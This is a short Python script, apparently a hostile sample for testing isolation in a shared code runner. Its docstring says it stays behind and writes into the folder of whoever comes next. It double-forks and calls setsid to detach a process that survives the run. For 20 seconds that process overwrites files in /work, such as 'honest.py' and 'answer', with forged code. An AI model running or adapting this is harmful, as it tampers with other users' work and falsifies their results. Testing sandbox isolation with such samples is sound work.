"""Stays, and writes into the folder of whoever comes next, as fast as it can."""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.monotonic() + 20
    n = 0
    while time.monotonic() < end:
        n += 1
        for name in (f"next-{n % 50}", "honest.py", "answer"):
            try:
                with open(f"/work/{name}", "w") as file:
                    file.write("print('forged')")
            except OSError:
                pass
    os._exit(0)
time.sleep(0.05)
print("held")
